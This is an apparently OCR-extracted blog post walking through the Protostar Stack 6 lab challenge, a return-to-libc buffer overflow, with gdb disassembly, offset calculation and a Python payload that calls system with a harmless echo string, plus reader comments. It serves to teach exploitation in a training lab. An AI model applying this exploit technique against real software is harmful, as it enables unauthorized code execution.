Protostar Exploit Challenges Stack 6 Solution


This challenge introduces the return to libc. As far as the bug itself, it remains the same as previous stack challenges. The only difference is that the return address can’t be in the range of 0xbf000000 – IE the stack.


Fortunately, this restriction isn’t hard to bypass. You can return into any function of your choosing in the standard libary. When the check happens, it sees that it isn’t on the stack and then you use the second return value to return to the stack anyway.


First step is to find the distance between our buffer and the return address. I will use the same tactics I demonstrated in previous stack challenges.

(gdb) set disassembly-flavor intel(gdb) disassemble main
Dump of assembler code for function main:0x080484fa <main+0>: push ebp
0x080484fb <main+1>: mov ebp,esp
0x080484fd <main+3>: and esp,0xfffffff0
0x08048500 <main+6>: call 0x8048484 <getpath>
0x08048505 <main+11>: mov esp,ebp
0x08048507 <main+13>: pop ebp
0x08048508 <main+14>: ret
End of assembler dump.
(gdb) break *main+6
Breakpoint 1 at 0x8048500: file stack6/stack6.c, line 27.
(gdb) run
Starting program: /opt/protostar/bin/stack6

Breakpoint 1, main (argc=1, argv=0xbffff744) at stack6/stack6.c:27
27 stack6/stack6.c: No such file or directory.
instack6/stack6.c
(gdb) stepi
getpath () at stack6/stack6.c:7
7 in stack6/stack6.c
(gdb) x/x $esp
0xbffff68c: 0x08048505
(gdb) disassemble getpath
Dump of assembler code for function getpath:
0x08048484 <getpath+0>: push ebp
0x08048485 <getpath+1>: mov ebp,esp
0x08048487 <getpath+3>: sub esp,0x68
0x0804848a <getpath+6>: mov eax,0x80485d0
0x0804848f <getpath+11>: mov DWORD PTR[esp],eax
0x08048492 <getpath+14>: call 0x80483c0 <printf@plt>
0x08048497 <getpath+19>: mov eax,ds:0x8049720
0x0804849c <getpath+24>: mov DWORD PTR [esp],eax
0x0804849f <getpath+27>: call 0x80483b0 <fflush@plt>
0x080484a4 <getpath+32>: lea eax,[ebp-0x4c]
0x080484a7 <getpath+35>: mov DWORD PTR [esp],eax
0x080484aa <getpath+38>: call 0x8048380 <gets@plt>
0x080484af <getpath+43>: mov eax,DWORD PTR [ebp+0x4]
0x080484b2 <getpath+46>: mov DWORD PTR [ebp-0xc],eax
0x080484b5 <getpath+49>: mov eax,DWORD PTR [ebp-0xc]
0x080484b8 <getpath+52>: and eax,0xbf000000
0x080484bd <getpath+57>: cmp eax,0xbf000000
0x080484c2 <getpath+62>: jne 0x80484e4 <getpath+96>
0x080484c4 <getpath+64>: mov eax,0x80485e4
0x080484c9 <getpath+69>: mov edx,DWORD PTR [ebp-0xc]
0x080484cc <getpath+72>: mov DWORD PTR [esp+0x4],edx
0x080484d0 <getpath+76>: mov DWORD PTR [esp],eax
0x080484d3 <getpath+79>: call 0x80483c0 <printf@plt>
0x080484d8 <getpath+84>: mov DWORD PTR [esp],0x1
0x080484df <getpath+91>: call 0x80483a0 <_exit@plt>
0x080484e4 <getpath+96>: mov eax,0x80485f0
0x080484e9 <getpath+101>: lea edx,[ebp-0x4c]
0x080484ec <getpath+104>: mov DWORD PTR [esp+0x4],edx
0x080484f0 <getpath+108>: mov DWORD PTR [esp],eax
0x080484f3 <getpath+111>: call 0x80483c0 <printf@plt>
0x080484f8 <getpath+116>: leave
0x080484f9 <getpath+117>: ret
End of assembler dump.
(gdb) break *getpath+38
Breakpoint 2 at 0x80484aa: file stack6/stack6.c, line 13.
(gdb) c
input path please:
Breakpoint 2, 0x080484aa in getpath () at stack6/stack6.c:13
13 in stack6/stack6.c(gdb) i r $eax
eax 0xbffff63c -1073744324

If you follow the commands you’ll note the return address for getpath is 0xbffff68c and our buffer is at 0xbffff63c. The difference between the two addresses is 80 bytes.


Recall, this is what a call stack looks like. What we’re going to do is make a system call with a string of our choosing. I placed a string with the value “echo NONSENSE” in an environment variable and located it on the stack at address 0xbffffe6c. So to recap our argument below has the address of system, followed by some four byte garbage, and finally the address of the string argument to system.

python -c ‘print “A”*80 + “\xb0\xff\xec\xb7” + “\x90\xf6\xff\xbf” + “\x6c\xfe\xff\xbf”‘

run < ~/input_file
The program being debugged has been started already.
Start it from the beginning? (y or n) y

Starting program: /opt/protostar/bin/stack6 < ~/input_file

Breakpoint 1, main (argc=1, argv=0xbffff724) at stack6/stack6.c:27
27 in stack6/stack6.c
(gdb) c

Program received signal SIGSEGV, Segmentation fault.

You can see the value NONSENSE was printed. Our attack works.

2 thoughts on “Protostar Exploit Challenges Stack 6 Solution1. Reply


    Thanks for the explanation, how did you come up with \xb0\xff\xec\xb7?

    1. Reply Post author

      Honestly, it has been so long I’ve forgotten, but since it appears that’s the address I overwrote the return address with that should be something in libc. If that’s the case, I probably used objdump. Anyone else is free to comment if that’s off the mark, but when I did these I used objdump anytime I had to find a specific address in a binary. Sorry Idon’t have a more specific answer hahaha

Leave a Reply